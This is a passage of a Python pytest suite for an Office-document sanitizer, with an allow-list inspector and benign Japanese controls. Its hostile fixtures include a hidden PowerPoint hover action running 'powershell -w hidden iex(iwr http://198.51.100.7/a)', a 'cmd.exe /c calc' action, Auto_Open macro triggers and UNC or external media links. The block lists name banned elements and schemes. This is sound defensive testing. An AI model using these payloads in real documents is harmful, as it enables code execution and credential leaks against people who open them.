        "powershell.exe -nop -w hidden -c \"iex(iwr http://198.51.100.7/a)\"", "ppaction://program", tag="a:hlinkMouseOver")),
    "ppaction-program-ppsx": ("ppsx", lambda: pptx_hlink("cmd.exe /c calc", "ppaction://program", tag="a:hlinkMouseOver", show=True)),
    "ppaction-macro": ("pptx", lambda: pptx_hlink(None, "ppaction://macro?name=Auto_Open")),
    "ppaction-ole-verb": ("pptx", lambda: pptx_hlink(None, "ppaction://ole?verb=0")),
    "ppaction-hlinkfile-unc": ("pptx", lambda: pptx_hlink(f"{UNC}\\deck.pptx", "ppaction://hlinkfile")),
    "ppaction-program-in-layout": ("pptx", pptx_layout_program),
    "hlink-unc-exe": ("pptx", lambda: pptx_hlink(f"{UNC}\\x.exe", None)),
    "hlink-file-exe": ("pptx", lambda: pptx_hlink("file:///C:/Users/Public/x.exe", None)),
    "video-external-http": ("pptx", lambda: pptx_pic('<a:videoFile r:link="rIdV"/>', [("rIdV", f"{OD_REL}/video", f"http://{EVIL}/v.mp4", True)])),
    "video-external-unc": ("pptx", lambda: pptx_pic('<a:videoFile r:link="rIdV"/>', [("rIdV", f"{OD_REL}/video", f"{UNC}\\v.wmv", True)])),
    "linked-blip-unc-pptx": ("pptx", pptx_linked_blip),
    "transition-sound-unc": ("pptx", pptx_sound),
}

# ---------------------------------------------------------------------------------------------
# the inspector: accepts only what it knows to be harmless
# ---------------------------------------------------------------------------------------------

PART_NAME = re.compile(
    r"^(\[Content_Types\]\.xml|_rels/\.rels|docProps/(core|app)\.xml"
    r"|word/(document|styles|stylesWithEffects|settings|webSettings|fontTable|numbering|footnotes|endnotes|comments"
    r"|commentsExtended|commentsIds|people)\.xml|word/(header|footer)\d+\.xml|word/theme/theme\d+\.xml"
    r"|word/_rels/[A-Za-z0-9]+\.xml\.rels|word/media/[A-Za-z0-9_]+\.(png|jpeg|jpg|gif)"
    r"|xl/(workbook|styles|sharedStrings)\.xml|xl/worksheets/sheet\d+\.xml|xl/theme/theme\d+\.xml"
    r"|xl/_rels/workbook\.xml\.rels|xl/worksheets/_rels/sheet\d+\.xml\.rels"
    r"|ppt/(presentation|presProps|viewProps|tableStyles)\.xml|ppt/_rels/presentation\.xml\.rels"
    r"|ppt/(slides/slide|slideLayouts/slideLayout|slideMasters/slideMaster|notesSlides/notesSlide"
    r"|notesMasters/notesMaster|theme/theme)\d+\.xml"
    r"|ppt/(slides|slideLayouts|slideMasters|notesSlides|notesMasters|theme)/_rels/[A-Za-z]+\d+\.xml\.rels"
    r"|ppt/media/[A-Za-z0-9_]+\.(png|jpeg|jpg|gif)"
    r"|(word|xl|ppt)/diagrams/(data|layout|quickStyle|colors|drawing)\d+\.xml|xl/drawings/vmlDrawing\d+\.vml)$"
)
CONTENT_TYPES = {
    "application/vnd.openxmlformats-package.relationships+xml", "application/xml",
    "application/vnd.openxmlformats-package.core-properties+xml", f"{CT}.extended-properties+xml",
    "image/png", "image/jpeg", "image/gif", f"{CT}.theme+xml",
    DOCX_MAIN, DOTX_MAIN, f"{CT}.wordprocessingml.styles+xml", "application/vnd.ms-word.stylesWithEffects+xml",
    f"{CT}.wordprocessingml.settings+xml", f"{CT}.wordprocessingml.webSettings+xml",
    f"{CT}.wordprocessingml.fontTable+xml", f"{CT}.wordprocessingml.numbering+xml",
    f"{CT}.wordprocessingml.header+xml", f"{CT}.wordprocessingml.footer+xml",
    f"{CT}.wordprocessingml.footnotes+xml", f"{CT}.wordprocessingml.endnotes+xml",
    f"{CT}.wordprocessingml.comments+xml",
    XL_MAIN, f"{CT}.spreadsheetml.template.main+xml", f"{CT}.spreadsheetml.worksheet+xml",
    f"{CT}.spreadsheetml.styles+xml", f"{CT}.spreadsheetml.sharedStrings+xml",
    f"{CT}.presentationml.presentation.main+xml", f"{CT}.presentationml.slideshow.main+xml",
    f"{CT}.presentationml.template.main+xml", f"{CT}.presentationml.slide+xml",
    f"{CT}.presentationml.slideLayout+xml", f"{CT}.presentationml.slideMaster+xml",
    f"{CT}.presentationml.notesSlide+xml", f"{CT}.presentationml.notesMaster+xml",
    f"{CT}.presentationml.presProps+xml", f"{CT}.presentationml.viewProps+xml", f"{CT}.presentationml.tableStyles+xml",
    f"{CT}.vmlDrawing", f"{CT}.drawingml.diagramData+xml", f"{CT}.drawingml.diagramLayout+xml",
    f"{CT}.drawingml.diagramStyle+xml", f"{CT}.drawingml.diagramColors+xml", "application/vnd.ms-office.drawingml.diagramDrawing+xml",
}
MAIN_TYPES = {DOCX_MAIN, DOTX_MAIN, XL_MAIN, f"{CT}.spreadsheetml.template.main+xml",
              f"{CT}.presentationml.presentation.main+xml", f"{CT}.presentationml.slideshow.main+xml",
              f"{CT}.presentationml.template.main+xml"}
REL_TYPES = {f"{OD_REL}/{t}" for t in (
    "officeDocument", "extended-properties", "styles", "settings", "webSettings", "fontTable", "theme", "numbering",
    "header", "footer", "footnotes", "endnotes", "comments", "image", "hyperlink", "worksheet", "sharedStrings",
    "slide", "slideLayout", "slideMaster", "notesSlide", "notesMaster", "presProps", "viewProps", "tableStyles",
    "vmlDrawing", "diagramData", "diagramLayout", "diagramQuickStyle", "diagramColors",
)} | {"http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties",
      "http://schemas.microsoft.com/office/2007/relationships/stylesWithEffects"}
BANNED_ELEMENTS = {
    "altChunk", "attachedTemplate", "object", "control", "controls", "OLEObject", "oleObj", "oleObject", "oleObjects",
    "subDoc", "frameset", "frame", "mailMerge", "docVars", "ddeLink", "externalReference", "externalReferences",
    "externalBook", "videoFile", "audioFile", "wavAudioFile", "quickTimeFile", "snd", "cmd", "webPr", "dbPr",
    "embedRegular", "embedBold", "embedItalic", "embedBoldItalic",
    "macrosheet", "customUI", "webextension", "FmlaMacro", "FmlaPict", "script", "media",
}
BAD_SCHEMES = ("file:", "\\\\", "//", "mhtml:", "ms-", "search-ms:", "javascript:", "vbscript:", "data:", "its:", "mk:")
FIELDS = {"PAGE", "NUMPAGES", "SECTIONPAGES", "SECTION", "DATE", "TIME", "CREATEDATE", "SAVEDATE", "PRINTDATE",
          "REF", "PAGEREF", "NOTEREF", "SEQ", "TOC", "TC", "XE", "INDEX", "STYLEREF", "NUMWORDS", "NUMCHARS"}
FUNCTIONS = {"SUM", "VLOOKUP", "AVERAGE", "IF", "COUNT", "COUNTA", "MIN", "MAX", "ROUND", "AND", "OR", "NOT",
             "TODAY", "NOW", "HYPERLINK", "FALSE", "TRUE"}
SIGNATURES = (b"MZ\x90\x00", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", b"PK\x03\x04", b"This program cannot",
              b"<script", b"{\\rtf")


def zip_structure(data: bytes) -> list[str]:
    """Every byte of the file belongs to a local entry, the central directory or the EOCD."""
    problems: list[str] = []
    eocd = len(data) - 22
    if eocd < 0 or data[eocd:eocd + 4] != b"PK\x05\x06":
        return ["no EOCD at the very end (trailing data or a comment)"]
    _, disk, cd_disk, n_here, n, cd_size, cd_offset, comment_len = struct.unpack("<IHHHHIIH", data[eocd:eocd + 22])
    if comment_len or disk or cd_disk or n_here != n:
        problems.append("EOCD comment or multi-disk")
    if cd_offset + cd_size != eocd:
        problems.append("gap between central directory and EOCD")
    pos, spans, names = cd_offset, [], set()
    for _ in range(n):
        if data[pos:pos + 4] != b"PK\x01\x02":
            return problems + [f"bad central header at {pos}"]
        fields = struct.unpack("<IHHHHHHIIIHHHHHII", data[pos:pos + 46])
        flags, method, crc, csize, usize, nlen, xlen, clen, offset = (
            fields[3], fields[4], fields[7], fields[8], fields[9], fields[10], fields[11], fields[12], fields[16])
        name = data[pos + 46:pos + 46 + nlen]
        pos += 46 + nlen + xlen + clen
        if name.lower() in names:
            problems.append(f"duplicate (or case-duplicate) entry {name!r}")
        names.add(name.lower())
        if flags & 1 or method not in (0, 8):
            problems.append(f"encrypted or odd method {name!r}")
        local = data[offset:offset + 30]
        if len(local) < 30 or local[:4] != b"PK\x03\x04":
            problems.append(f"no local header for {name!r}")
            continue
        lf = struct.unpack("<IHHHHHIIIHH", local)
        lname = data[offset + 30:offset + 30 + lf[9]]
        if lname != name or lf[3] != method:
            problems.append(f"local header {lname!r} disagrees with directory {name!r}")
        if not (flags & 8) and (lf[6], lf[7], lf[8]) != (crc, csize, usize):
            problems.append(f"local sizes disagree for {name!r}")
        end = offset + 30 + lf[9] + lf[10] + csize
        if flags & 8:
            end += 16 if data[end:end + 4] == b"PK\x07\x08" else 12
        spans.append((offset, end))
    if pos != cd_offset + cd_size:
        problems.append("central directory size disagrees")
    cursor = 0
    for start, end in sorted(spans):
        if start != cursor:
            problems.append(f"bytes outside any entry at {cursor}..{start}")
        cursor = max(cursor, end)
    if cursor != cd_offset:
        problems.append(f"bytes outside any entry at {cursor}..{cd_offset}")
    return problems


def parse_xml(name: str, data: bytes, problems: list[str]) -> etree._Element | None:
    if not data.startswith(b"<?xml version=") and not data.startswith(b"<"):
        problems.append(f"{name}: not UTF-8 XML (BOM/UTF-16?)")
        return None
    if re.search(rb"encoding=['\"](?!utf-8['\"])", data[:100], re.I):
        problems.append(f"{name}: declared encoding is not UTF-8")
    if b"<!DOCTYPE" in data or b"<!ENTITY" in data:
        problems.append(f"{name}: DOCTYPE/ENTITY")
        return None
    if b"<![CDATA[" in data:
        problems.append(f"{name}: CDATA section")
    parser = etree.XMLParser(resolve_entities=False, no_network=True, load_dtd=False, huge_tree=False,
                             remove_comments=False, remove_pis=False)
    try:
        root = etree.fromstring(data, parser)
    except etree.XMLSyntaxError as error:
        problems.append(f"{name}: not well-formed ({error})")
        return None
    node = root.getprevious()
    while node is not None:
        problems.append(f"{name}: comment or PI before root")
        node = node.getprevious()
    for _node in root.iter(etree.Comment, etree.ProcessingInstruction):
        problems.append(f"{name}: comment or PI inside")
    node = root.getnext()
    while node is not None:
        problems.append(f"{name}: comment or PI after root")
        node = node.getnext()
    return root


def check_field(name: str, instruction: str, problems: list[str]) -> None:
    text = instruction.strip()
    if not text:
        return
    keyword = text.split()[0].upper()
    if keyword not in FIELDS or "\\\\" in text or re.search(r"\b(file|https?|mhtml|ms-[a-z-]+|search-ms|javascript)\s*:", text, re.I):
        problems.append(f"{name}: field {text[:80]!r}")


def check_fields(name: str, root: etree._Element, problems: list[str]) -> None:
    stack: list[list[str]] = []
    for element in root.iter():
        tag = etree.QName(element).localname if isinstance(element.tag, str) else ""
        if tag == "fldSimple":
            check_field(name, element.get(f"{{{W}}}instr", ""), problems)
        elif tag == "fldChar":
            kind = element.get(f"{{{W}}}fldCharType")
            if kind == "begin":
                stack.append([])
            elif kind in ("separate", "end") and stack:
                check_field(name, "".join(stack[-1]), problems)
                stack[-1] = []
                if kind == "end":
                    stack.pop()
        elif tag in ("instrText", "delInstrText"):
            if stack:
                stack[-1].append(element.text or "")
            else:
                check_field(name, element.text or "", problems)
    if stack:
        problems.append(f"{name}: field never ended")


def check_formula(name: str, formula: str, problems: list[str]) -> None:
    if any(c in formula for c in "[|\\") or re.search(r"file:|//", formula, re.I):
        problems.append(f"{name}: formula {formula[:80]!r}")
    for func in re.findall(r"([A-Za-z_][A-Za-z0-9_.]*)\s*\(", formula):
        if func.upper() not in FUNCTIONS:
            problems.append(f"{name}: formula calls {func}")
    for match in re.finditer(r"HYPERLINK\s*\(\s*(.*)", formula, re.I):
        if not re.match(r'"(https?://|mailto:|#)[^"&]*"\s*[,)]', match.group(1), re.I):
            problems.append(f"{name}: HYPERLINK target not one literal web address: {formula[:80]!r}")


def check_xml(name: str, root: etree._Element, problems: list[str]) -> None:
    for element in root.iter():
        if not isinstance(element.tag, str):
            continue
        qname = etree.QName(element)
        local = qname.localname
        if local in BANNED_ELEMENTS:
            problems.append(f"{name}: element {local}")
        for attr, value in element.attrib.items():
            aq = etree.QName(attr)
            if aq.namespace == R and aq.localname == "link":
                problems.append(f"{name}: linked (external) reference r:link")
            if aq.localname.lower() in ("macro", "fmlamacro", "onload", "onaction", "textlink"):
                problems.append(f"{name}: {aq.localname}={value!r}")
            if aq.localname == "src" and ":" in value:
                problems.append(f"{name}: picture fetched from {value[:60]!r}")
            if value.strip().lower().startswith(BAD_SCHEMES):
                problems.append(f"{name}: attribute {aq.localname}={value[:60]!r}")
            if aq.localname == "action" and not re.fullmatch(
                r"ppaction://(hlinkshowjump\?jump=(nextslide|previousslide|firstslide|lastslide|lastslideviewed|endshow)"
                r"|hlinksldjump|noaction)", value):
                problems.append(f"{name}: action {value!r}")
        if qname.namespace in (S, "http://purl.oclc.org/ooxml/spreadsheetml/main") and local in (
                "f", "formula", "formula1", "formula2", "definedName"):
            check_formula(name, element.text or "", problems)
            if local == "definedName" and re.match(r"(_xlnm\.)?auto_(open|close|activate|deactivate)",
                                                    element.get("name", ""), re.I):
                problems.append(f"{name}: auto-run name {element.get('name')}")
        if local in ("FmlaLink", "FmlaTxbx", "FmlaRange", "FmlaGroup"):
            check_formula(name, element.text or "", problems)
        if local == "f" and qname.namespace and "chart" in qname.namespace:
            check_formula(name, element.text or "", problems)
    check_fields(name, root, problems)


def check_picture(name: str, data: bytes, problems: list[str]) -> None:
    if name.endswith(".png"):
        if not data.startswith(b"\x89PNG\r\n\x1a\n"):
            problems.append(f"{name}: not a PNG")
            return
        pos = 8
        while pos < len(data):
            length, kind = struct.unpack(">I4s", data[pos:pos + 8])
            pos += 12 + length
            if kind == b"IEND":
                break
        if pos != len(data):
            problems.append(f"{name}: bytes after IEND or truncated")
    elif name.endswith((".jpeg", ".jpg")):
        if not data.startswith(b"\xff\xd8") or not data.endswith(b"\xff\xd9"):
            problems.append(f"{name}: not a JPEG or bytes after EOI")
    elif name.endswith(".gif"):
        if not data.startswith(b"GIF8") or not data.endswith(b";"):
            problems.append(f"{name}: not a GIF or bytes after trailer")


def inspect(data: bytes, ext: str) -> list[str]:
    """Problems found; an empty list means the package is known to be harmless."""
    problems = zip_structure(data)
    try:
        z = zipfile.ZipFile(io.BytesIO(data))
        parts = {i.filename: z.read(i) for i in z.infolist()}
    except Exception as error:  # noqa: BLE001 - anything unreadable is refused
        return problems + [f"unreadable zip: {error}"]
    if ext.endswith("m") or ext in ("xlsb",):
        problems.append(f"macro-enabled extension .{ext}")
    lower = {n.lower(): n for n in parts}
    for name, body in parts.items():
        if not PART_NAME.match(name):
            problems.append(f"part not allowed: {name}")
        for signature in SIGNATURES:
            if signature.lower() in body.lower() if signature == b"<script" else signature in body:
                problems.append(f"{name}: holds {signature!r}")
        if name.endswith((".png", ".jpeg", ".jpg", ".gif")):
            check_picture(name, body, problems)
    # content types
    ct_root = parse_xml("[Content_Types].xml", parts.get("[Content_Types].xml", b""), problems)
    defaults, overrides = {}, {}
    if ct_root is not None:
        for element in ct_root:
            local = etree.QName(element).localname
            if local == "Default":
                defaults[element.get("Extension", "").lower()] = element.get("ContentType")
            elif local == "Override":
                overrides[element.get("PartName", "").lstrip("/").lower()] = element.get("ContentType")
    for part in overrides:
        if part not in lower:
            problems.append(f"override for a missing part {part}")
    for ext_, ctype in defaults.items():
        if ctype not in CONTENT_TYPES:
            problems.append(f"default content type {ext_} -> {ctype}")
    mains = []
    for name in parts:
        if name == "[Content_Types].xml":
            continue
        ctype = overrides.get(name.lower()) or defaults.get(name.rsplit(".", 1)[-1].lower())
        if ctype not in CONTENT_TYPES:
            problems.append(f"{name}: content type {ctype}")
        if ctype in MAIN_TYPES:
            mains.append(name)
        if name.endswith((".xml", ".rels", ".vml")):
            root = parse_xml(name, parts[name], problems)
            if root is None:
                continue
            if name.endswith(".rels"):
                base = name.replace("_rels/", "").removesuffix(".rels").rsplit("/", 1)[0] if "/" in name.replace("_rels/", "", 1) else ""
                for rel in root:
                    rtype, target = rel.get("Type", ""), rel.get("Target", "")
                    if rtype not in REL_TYPES:
                        problems.append(f"{name}: relationship type {rtype}")
                    if rel.get("TargetMode") == "External":
                        if rtype != f"{OD_REL}/hyperlink" or not re.match(r"(https?://|mailto:)", target.strip(), re.I):
                            problems.append(f"{name}: external {rtype.rsplit('/', 1)[-1]} -> {target[:80]!r}")
                    else:
                        resolved = resolve(base, target)
                        if ":" in target or "\\" in target or resolved.lower() not in lower:
                            problems.append(f"{name}: internal target {target!r} not a part")
            else:
                check_xml(name, root, problems)
    if len(mains) != 1:
        problems.append(f"main document parts: {mains}")
    # second opinion: oletools
    problems += oletools_opinion(data)
    return problems


def resolve(base: str, target: str) -> str:
    if target.startswith("/"):
        return target.lstrip("/")
    parts = [p for p in base.split("/") if p]
    for piece in target.split("/"):
        if piece == "..":
            if parts:
                parts.pop()
        elif piece and piece != ".":
            parts.append(piece)
    return "/".join(parts)


def oletools_opinion(data: bytes) -> list[str]:
    script = (
        "import sys,io,json,tempfile,os\n"
        "from oletools.olevba import VBA_Parser\n"
        "from oletools import msodde\n"
        "data=sys.stdin.buffer.read()\n"
        "out=[]\n"
        "try:\n"
        "    v=VBA_Parser('x.zip',data=data)\n"
        "    if v.detect_vba_macros(): out.append('olevba: VBA macros')\n"
        "except Exception as e: pass\n"
        "f=tempfile.NamedTemporaryFile(suffix='.docx',delete=False); f.write(data); f.close()\n"
        "try:\n"
        "    t=msodde.process_file(f.name, msodde.FIELD_FILTER_DDE)\n"
        "    if t and t.strip(): out.append('msodde: '+t.strip()[:100])\n"
        "except Exception as e: pass\n"
        "os.unlink(f.name)\n"
        "print(json.dumps(out))\n"
    )
    done = subprocess.run([str(PY), "-c", script], input=data, capture_output=True, timeout=60)
    try:
        return json.loads(done.stdout.decode().strip().splitlines()[-1])
    except (IndexError, ValueError):
        return []


# ---------------------------------------------------------------------------------------------
# one CLI run over everything
# ---------------------------------------------------------------------------------------------

BENIGN_EXT = {"benign-ja-docx": "docx", "benign-xlsx-formulas": "xlsx", "benign-pptx-3-slides": "pptx",
              "benign-docx-page-field-https-link": "docx"}


def benign_fields_docx() -> bytes:
    pkg = d().rel("word/_rels/document.xml.rels", "rIdW", f"{OD_REL}/hyperlink", "https://www.city.example.lg.jp/", external=True)
    return pkg.body(f'{field_para("PAGE", "1")}<w:p><w:fldSimple w:instr=" NUMPAGES ">{run("1")}</w:fldSimple></w:p>'
                    f'<w:p><w:hyperlink r:id="rIdW">{run("市のホームページ")}</w:hyperlink></w:p>').bytes()


BENIGN: dict[str, Callable[[], bytes]] = {
    "benign-ja-docx": docx_base,
    "benign-xlsx-formulas": xlsx_base,
    "benign-pptx-3-slides": pptx_base,
    "benign-docx-page-field-https-link": benign_fields_docx,
}


@pytest.fixture(scope="module")
def results(tmp_path_factory: pytest.TempPathFactory) -> dict[str, dict]:
    base = tmp_path_factory.mktemp("ox")
    inbox, out = base / "in", base / "out"
    inbox.mkdir()
    out.mkdir()
    for case, (ext, build) in HOSTILE.items():
        (inbox / f"{case}.{ext}").write_bytes(build())
    for case, build in BENIGN.items():
        (inbox / f"{case}.{BENIGN_EXT[case]}").write_bytes(build())
    done = subprocess.run(
        [str(PY), "cli.py", "sanitize", str(inbox), "--out", str(out), "--quarantine", str(base / "q"),
         "--audit", str(base / "audit.jsonl"), "--spool", str(base / "spool"), "--json"],
        cwd=ROOT, capture_output=True, timeout=170,
    )
    assert done.returncode in (0, 1), done.stderr.decode()[-2000:]
    by_case = {}
    for line in done.stdout.decode().splitlines():
        record = json.loads(line)
        case = Path(record["input"]).name.rsplit(".", 1)[0]
        if record.get("output"):
            output = Path(record["output"])
            record["bytes"] = (output if output.is_absolute() else ROOT / output).read_bytes()
        by_case[case] = record
    return by_case


def verdict_ok(record: dict) -> tuple[bool, list[str]]:
    if record["verdict"] == "quarantined":
        return True, []
    assert record["verdict"] == "released", record
    ext = record["output"].rsplit(".", 1)[-1].lower()
    problems = inspect(record["bytes"], ext)
    return not problems, problems


CROSSINGS: dict[str, str] = {}


def hostile_params() -> list:
    params = []
    for case in HOSTILE:
        marks = [pytest.mark.xfail(strict=True, reason=CROSSINGS[case])] if case in CROSSINGS else []
        params.append(pytest.param(case, id=case, marks=marks))
    return params


@pytest.mark.parametrize("case", hostile_params())
def test_hostile_is_quarantined_or_released_clean(results: dict[str, dict], case: str) -> None:
    record = results[case]
    ok, problems = verdict_ok(record)
    assert ok, f"{case}: released {record['output']} with {problems}"


@pytest.mark.parametrize("case", list(HOSTILE))
def test_inspector_refuses_the_input_as_sent(case: str) -> None:
    ext, build = HOSTILE[case]
    assert inspect(build(), ext), f"the inspector accepts hostile input {case} as sent"


@pytest.mark.parametrize("case", list(BENIGN))
def test_inspector_accepts_benign_input_as_sent(case: str) -> None:
    """The controls are what the inspector accepts: it is not refusing everything."""
    assert inspect(BENIGN[case](), BENIGN_EXT[case]) == []


def test_benign_docx_released_intact(results: dict[str, dict]) -> None:
    import docx

    record = results["benign-ja-docx"]
    assert record["verdict"] == "released", record
    assert inspect(record["bytes"], "docx") == []
    document = docx.Document(io.BytesIO(record["bytes"]))
    texts = [p.text for p in document.paragraphs]
    for line in JA_TEXT:
        assert line in texts
    table = document.tables[0]
    assert [[c.text for c in row.cells] for row in table.rows] == JA_TABLE
    with zipfile.ZipFile(io.BytesIO(record["bytes"])) as z:
        pictures = [n for n in z.namelist() if n.startswith("word/media/")]
    assert pictures, "the picture was lost"


def test_benign_xlsx_released_intact(results: dict[str, dict]) -> None:
    import openpyxl

    record = results["benign-xlsx-formulas"]
    assert record["verdict"] == "released", record
    assert inspect(record["bytes"], "xlsx") == []
    sheet = openpyxl.load_workbook(io.BytesIO(record["bytes"])).worksheets[0]
    assert sheet.title == "予算"
    assert [sheet["A1"].value, sheet["B1"].value, sheet["A2"].value, sheet["B2"].value, sheet["B3"].value] == [
        "品目", "金額", "電気柵", 1200000, 45000]
    assert sheet["B4"].value == "=SUM(B2:B3)"
    assert sheet["B5"].value == '=VLOOKUP("看板",A2:B3,2,FALSE)'


def test_benign_pptx_released_intact(results: dict[str, dict]) -> None:
    import pptx

    record = results["benign-pptx-3-slides"]
    assert record["verdict"] == "released", record
    assert inspect(record["bytes"], "pptx") == []
    presentation = pptx.Presentation(io.BytesIO(record["bytes"]))
    assert len(presentation.slides) == 3
    assert [s.shapes.title.text for s in presentation.slides] == SLIDES


def test_benign_fields_and_https_link_released_intact(results: dict[str, dict]) -> None:
    record = results["benign-docx-page-field-https-link"]
    assert record["verdict"] == "released", record
    assert inspect(record["bytes"], "docx") == []
    with zipfile.ZipFile(io.BytesIO(record["bytes"])) as z:
        document = z.read("word/document.xml").decode()
        rels = z.read("word/_rels/document.xml.rels").decode()
    assert "PAGE" in document and "NUMPAGES" in document
    assert "https://www.city.example.lg.jp/" in rels and "市のホームページ" in document


if __name__ == "__main__":  # pragma: no cover - handy for looking at one case
    sys.exit(pytest.main([__file__, "-q"]))
